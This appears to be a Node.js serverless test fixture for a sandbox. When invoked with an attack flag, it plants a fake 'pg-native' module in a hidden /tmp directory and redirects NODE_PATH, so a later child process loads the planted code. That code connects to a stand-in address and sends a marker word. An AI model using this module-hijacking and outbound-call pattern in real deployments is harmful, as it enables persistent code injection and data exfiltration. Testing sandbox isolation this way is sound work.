// Harmless: the module sends one word to an address that exists on the sandbox's loopback device only.
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';

const MODULE =
  "require('node:net').connect(443, '203.0.113.7').on('error', () => {}).end('shadowed');\nmodule.exports = {};\n";
// A module that may be absent, and work that goes on.
const JOB = "try { require('pg-native') } catch {} setTimeout(() => {}, 2000)";

export const handler = async (event) => {
  if (event.attack === true) {
    mkdirSync('/tmp/.cache/node', { recursive: true });
    writeFileSync('/tmp/.cache/node/pg-native.js', MODULE);
    process.env.NODE_PATH = '/tmp/.cache/node';
  }
  // What this function always does: it hands a job to another process.
  if (event.job === true) {
    spawn(process.execPath, ['-e', JOB]);
    await new Promise((done) => setTimeout(done, 300));
  }
  return 'ok';
};
